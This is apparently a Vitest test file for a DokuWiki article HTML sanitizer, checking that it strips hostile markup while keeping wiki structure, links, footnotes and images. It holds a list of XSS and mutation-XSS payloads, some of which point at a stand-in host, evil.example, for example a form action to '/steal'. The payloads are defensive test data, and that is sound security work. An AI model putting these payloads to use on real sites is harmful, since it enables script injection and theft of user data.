// @vitest-environment jsdom
// DOMPurify under happy-dom is unsafe (it stops after the first node it removes).
import { describe, expect, it } from 'vitest';
import { sanitizeArticleHtml } from '../../../../services/sanitize/article-html';

const WIKI = 'https://wiki.example.org/';

function render(html: string, wikiUrl: string | null = WIKI): HTMLElement {
  const container = document.createElement('div');
  container.append(sanitizeArticleHtml(html, wikiUrl === null ? {} : { wikiUrl }));
  return container;
}

const DANGEROUS_ELEMENTS =
  'script, style, link, meta, base, iframe, frame, frameset, object, embed, applet, form, input, button, select, textarea, svg, math, template, noscript, video, audio, source, portal, dialog';

/** Everything that could run script, load a frame or restyle the page. */
function expectHarmless(root: ParentNode): void {
  expect(root.querySelectorAll(DANGEROUS_ELEMENTS)).toHaveLength(0);
  for (const element of root.querySelectorAll('*')) {
    for (const { name, value } of [...element.attributes]) {
      expect(name, `${element.tagName} has ${name}`).not.toMatch(/^on|^style$|^srcdoc$|^formaction$|^xlink:|^action$|^srcset$/i);
      if (/^(href|src)$/i.test(name)) expect(value, `${element.tagName} ${name}`).toMatch(/^(https?:|mailto:|#|data:image\/(png|gif|jpeg|webp|avif);)/i);
    }
  }
}

/** Sanitized output must stay harmless when serialized and parsed again (mutation XSS). */
function expectStableHarmless(html: string): void {
  const first = render(html);
  expectHarmless(first);
  const reparsed = document.createElement('div');
  // Reading and re-parsing the output is what a mutation-XSS attack relies on.
  reparsed.innerHTML = first.innerHTML;
  expectHarmless(reparsed);
}

const HOSTILE: Record<string, string> = {
  script: '<p>a</p><script>alert(1)</script><p>b</p>',
  'script, odd case and attributes': '<ScRiPt type="module" src="https://evil.example/x.js"></ScRiPt>',
  'img onerror': '<img src="x" onerror="alert(1)">',
  'img onerror without quotes': '<img src=x onerror=alert(1)//>',
  'javascript: link': '<a href="javascript:alert(1)">click</a>',
  'javascript: link, entity-encoded': '<a href="jav&#x09;ascript&#58;alert(1)">click</a>',
  'javascript: link, mixed case and spaces': '<a href="  JaVaScRiPt:alert(1)">click</a>',
  'vbscript: link': '<a href="vbscript:msgbox(1)">click</a>',
  'data: html link': '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  'data: svg image': '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  'svg onload': '<svg onload="alert(1)"><circle r="5"/></svg>',
  'svg script': '<svg><script>alert(1)</script></svg>',
  'svg animate href': '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text y="20">x</text></a></svg>',
  'math href': '<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>',
  'iframe srcdoc': '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  'iframe src': '<iframe src="https://evil.example"></iframe>',
  'object and embed': '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
  'style tag': '<style>body{display:none}</style><p>text</p>',
  'style attribute': '<p style="position:fixed;inset:0;background:url(https://evil.example/track)">text</p>',
  'link stylesheet': '<link rel="stylesheet" href="https://evil.example/x.css">',
  'form action': '<form action="https://evil.example/steal"><input name="password"><button formaction="https://evil.example">Go</button></form>',
  'meta refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  'base href': '<base href="https://evil.example/"><a href="page">x</a>',
  'noscript mXSS': '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  'svg style mXSS': '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  'math mglyph mXSS': '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  'form nesting mXSS': '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  'template': '<template><img src=x onerror=alert(1)></template>',
  'namespace confusion': '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  'comment breakout': '<!--><img src=x onerror=alert(1)>-->',
  'cdata in html': '<![CDATA[<img src=x onerror=alert(1)>]]>',
  'details ontoggle': '<details open ontoggle="alert(1)"><summary>x</summary></details>',
  'srcset': '<img src="https://wiki.example.org/a.png" srcset="javascript:alert(1) 1x">',
  'xlink href': '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  'dom clobbering': '<img name="getElementById"><form id="location"></form><a id="cookie">x</a>',
  'event on allowed element': '<p onclick="alert(1)" onmouseover="alert(1)">text</p>',
  'video poster': '<video poster="javascript:alert(1)"><source src="x" onerror="alert(1)"></video>',
};

describe('sanitizeArticleHtml against hostile markup', () => {
  for (const [name, html] of Object.entries(HOSTILE)) {
    it(`neutralises ${name}`, () => expectStableHarmless(html));
  }

  it('keeps the readable text around what it removes', () => {
    expect(render(HOSTILE['script']!).textContent).toBe('ab');
    expect(render(HOSTILE['style tag']!).textContent).toBe('text');
    expect(render(HOSTILE['event on allowed element']!).querySelector('p')?.textContent).toBe('text');
  });

  it('drops what is not text for the reader whole: forms and their buttons', () => {
    expect(render(HOSTILE['form action']!).textContent).toBe('');
  });

  it('prefixes ids so an article cannot clobber the page', () => {
    const root = render(HOSTILE['dom clobbering']!);
    expect(root.querySelector('a')?.id).toBe('user-content-cookie');
    expect(document.getElementById('cookie')).toBeNull();
  });
});

describe('sanitizeArticleHtml on DokuWiki markup', () => {
  const page = `
    <h1 class="sectionedit1" id="metagpt">MetaGPT</h1>
    <div class="level1">
      <p><strong>MetaGPT</strong> is a framework<sup><a href="#fn__1" id="fnt__1" class="fn_top">1)</a></sup>
      built on <a href="/doku.php?id=large_language_models" class="wikilink1" title="large_language_models" data-wiki-id="large_language_models">LLMs</a>,
      unlike <a href="/doku.php?id=constitutional_ai" class="wikilink2" title="constitutional_ai" rel="nofollow" data-wiki-id="constitutional_ai">constitutional AI</a>.
      See <a href="https://arxiv.org/abs/2308.00352" class="urlextern" title="https://arxiv.org/abs/2308.00352" rel="ugc nofollow">the paper</a>
      or <a href="mailto:team@example.org">write to us</a>.</p>
      <ul><li class="level1"><div class="li">one</div></li></ul>
      <ol><li class="level1"><div class="li">first</div></li></ol>
      <div class="table"><table class="inline"><thead><tr class="row0"><th class="col0">A</th></tr></thead>
      <tbody><tr class="row1"><td class="col0" colspan="2">b</td></tr></tbody></table></div>
      <pre class="code python"><span class="kw1">import</span> os</pre>
      <p><em>em</em> <u>u</u> <code>mono</code> <del>gone</del> x<sub>2</sub></p>
      <img src="/lib/exe/fetch.php?media=diagram.png" class="media" alt="diagram" width="200">
    </div>
    <div class="footnotes"><div class="fn"><sup><a href="#fnt__1" id="fn__1" class="fn_bot">1)</a></sup>
    <div class="content">Hong et al., 2023.</div></div></div>`;
  const root = render(page);

  it('keeps the structure DokuWiki renders', () => {
    for (const selector of ['h1', 'div.dw-level1', 'p strong', 'ul li div.dw-li', 'ol li', 'table.dw-inline thead th', 'td[colspan="2"]', 'pre.dw-code.dw-python span.dw-kw1', 'em', 'u', 'code', 'del', 'sub', 'sup', 'div.dw-footnotes']) {
      expect(root.querySelector(selector), selector).not.toBeNull();
    }
    expect(root.querySelector('h1')?.id).toBe('user-content-metagpt');
  });

  it('marks links to wiki pages with data-wiki-id and points them at the wiki', () => {
    const internal = root.querySelector('a[data-wiki-id="large_language_models"]');
    expect(internal?.getAttribute('href')).toBe('https://wiki.example.org/doku.php?id=large_language_models');
    expect(internal?.hasAttribute('target')).toBe(false);
    const missing = root.querySelector('a[data-wiki-id="constitutional_ai"]');
    expect(missing?.classList.contains('dw-wikilink2')).toBe(true);
  });

  it('opens other links in a new tab without giving the page a handle on ours', () => {
    const external = root.querySelector('a.dw-urlextern');
    expect(external?.getAttribute('href')).toBe('https://arxiv.org/abs/2308.00352');
    expect(external?.getAttribute('target')).toBe('_blank');
    expect(external?.getAttribute('rel')).toBe('noopener noreferrer');
    const mail = root.querySelector('a[href^="mailto:"]');
    expect(mail?.hasAttribute('target')).toBe(false);
  });

  it('points footnote links at the prefixed ids', () => {
    expect(root.querySelector('a.dw-fn_top')?.getAttribute('href')).toBe('#user-content-fn__1');
    expect(root.querySelector('#user-content-fn__1')).not.toBeNull();
    expect(root.querySelector('a.dw-fn_bot')?.getAttribute('href')).toBe('#user-content-fnt__1');
  });

  it('resolves images against the wiki and loads them lazily, without a referrer', () => {
    const image = root.querySelector('img');
    expect(image?.getAttribute('src')).toBe('https://wiki.example.org/lib/exe/fetch.php?media=diagram.png');
    expect(image?.getAttribute('loading')).toBe('lazy');
    expect(image?.getAttribute('referrerpolicy')).toBe('no-referrer');
    expect(image?.getAttribute('alt')).toBe('diagram');
  });

  it('recognises page links by their href alone: doku.php?id= and pretty URLs', () => {
    const links = render(`
      <a href="/doku.php?id=ai:rlhf">plain</a>
      <a href="doku.php?id=Mixed_Case&do=show">relative</a>
      <a href="/ai:lora" class="wikilink1">pretty</a>
      <a href="/doku.php/papers/react" class="wikilink1">pretty 2</a>
      <a href="/doku.php?id=ai:rlhf&do=edit">edit</a>
      <a href="/lib/exe/fetch.php?media=a.pdf">file</a>
      <a href="https://other.example.org/doku.php?id=ai:rlhf">other wiki</a>`);
    expect([...links.querySelectorAll('a')].map((a) => a.getAttribute('data-wiki-id'))).toEqual([
      'ai:rlhf', 'mixed_case', 'ai:lora', 'papers:react', null, null, null,
    ]);
    expect(links.querySelectorAll('a[target="_blank"]')).toHaveLength(3);
  });

  it('works under a wiki in a sub-folder', () => {
    const link = render('<a href="/wiki/doku.php?id=start">home</a><a href="/doku.php?id=start">elsewhere</a>', 'https://example.org/wiki/');
    expect([...link.querySelectorAll('a')].map((a) => a.getAttribute('data-wiki-id'))).toEqual(['start', null]);
  });

  it('without a wiki URL drops relative links and images, keeps absolute ones and page links', () => {
    const bare = render(
      '<a href="/doku.php?id=x">rel</a><a href="https://a.example/">abs</a><a href="/doku.php?id=y" data-wiki-id="y">page</a><img src="/x.png"><img src="https://a.example/x.png">',
      null,
    );
    expect([...bare.querySelectorAll('a')].map((a) => a.getAttribute('href'))).toEqual([null, 'https://a.example/', '#']);
    expect(bare.querySelectorAll('img')).toHaveLength(1);
  });

  it('keeps inline raster images, refuses other data: URLs', () => {
    const png = 'data:image/png;base64,iVBORw0KGgo=';
    const images = render(`<img src="${png}" alt="dot"><img src="data:text/html,hi" alt="bad">`);
    expect([...images.querySelectorAll('img')].map((i) => i.getAttribute('src'))).toEqual([png]);
  });

  it('cleans up odd classes and ids it cannot trust', () => {
    const odd = render('<p class="a&quot;b ok" data-x="1" aria-hidden="true">t</p>');
    const p = odd.querySelector('p')!;
    expect(p.getAttribute('class')).toBe('dw-ok');
    expect(p.hasAttribute('data-x')).toBe(false);
    expect(p.hasAttribute('aria-hidden')).toBe(false);
  });
});

describe('sanitizeArticleHtml on a large page', () => {
  // Long articles are mostly text: 5 MB of paragraphs, each with a link, bold
  // text, a heading and a hostile image. (jsdom is far slower than a browser
  // per node; the same page takes well under a second in Chromium.)
  it('sanitizes a 5 MB page, keeping every paragraph and removing every handler', () => {
    const sentence = 'The open-closed model performance gap narrows as open models improve on reasoning benchmarks. ';
    const block = `<div class="level2"><h2 id="s">Section</h2><p>${sentence.repeat(20)}<a href="/doku.php?id=x" class="wikilink1" data-wiki-id="x">a link</a> <strong>bold</strong> <img src=x onerror=alert(1)><script>alert(1)</script></p></div>\n`;
    const count = Math.ceil((5 * 1024 * 1024) / block.length);
    const html = block.repeat(count);
    expect(html.length).toBeGreaterThanOrEqual(5 * 1024 * 1024);
    const root = render(html);
    expect(root.querySelectorAll('p')).toHaveLength(count);
    expect(root.querySelectorAll('a[data-wiki-id="x"]')).toHaveLength(count);
    expect(root.querySelectorAll('[onerror], script')).toHaveLength(0);
    expect(root.textContent!.length).toBeGreaterThan(4 * 1024 * 1024);
  }, 180_000);
});
